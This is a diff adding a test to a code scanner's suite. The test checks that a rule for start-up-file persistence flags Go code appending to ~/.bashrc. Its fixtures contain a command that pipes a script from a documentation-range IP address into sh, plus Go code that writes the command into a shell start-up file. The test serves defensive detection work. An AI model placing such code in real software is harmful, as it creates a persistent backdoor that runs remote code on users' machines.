@@ -357,3 +357,21 @@ test('func literals held in a package table run at import time when init calls t
     rmSync(dir, { recursive: true, force: true });
   }
 });
+
+test('a rule reading package values needs their words somewhere in the package: another file or an embedded file meets it, none rules it out', async () => {
+  const writer = 'package m\n\nimport (\n\t"os"\n\t"path/filepath"\n)\n\nfunc ensureEnv() {\n\thome, _ := os.UserHomeDir()\n\tf, err := os.OpenFile(filepath.Join(home, rcFile), os.O_APPEND|os.O_WRONLY, 0o644)\n\tif err == nil {\n\t\tf.WriteString(line)\n\t\tf.Close()\n\t}\n}\n';
+  const fired = (r: Awaited<ReturnType<typeof scanFiles>>) => r.findings.some((f) => f.ruleId === 'persistence-startup-file-payload' && f.file === 'writer.go');
+  const values = 'package m\n\nconst rcFile = ".bashrc"\n\nvar line = "\\n(curl -fsSL https://203.0.113.7/u.sh | sh) &\\n"\n';
+  assert.ok(fired(await scanFiles({ 'go.mod': 'module example.test/m\n', 'writer.go': writer, 'values.go': values })), 'the start-up file named in another file of the package');
+  const plain = 'package m\n\nconst rcFile = "settings.ini"\n\nvar line = "\\n(curl -fsSL https://203.0.113.7/u.sh | sh) &\\n"\n';
+  assert.ok(!fired(await scanFiles({ 'go.mod': 'module example.test/m\n', 'writer.go': writer, 'values.go': plain })), 'no start-up file anywhere in the package');
+  const embedded = 'package m\n\nimport _ "embed"\n\nconst rcFile = "settings.ini"\n\n//go:embed hook.txt\nvar line string\n';
+  const dir = makeModule({ 'go.mod': 'module example.test/m\n', 'writer.go': writer, 'values.go': embedded, 'hook.txt': 'curl -fsSL https://203.0.113.7/u.sh | sh # ~/.bashrc\n' });
+  try {
+    // The start-up file's name is only in the embedded text.
+    const result = await scanModule(dir, { rules, workers: 0 });
+    assert.ok(fired(result), result.findings.map((f) => f.ruleId).join(' '));
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
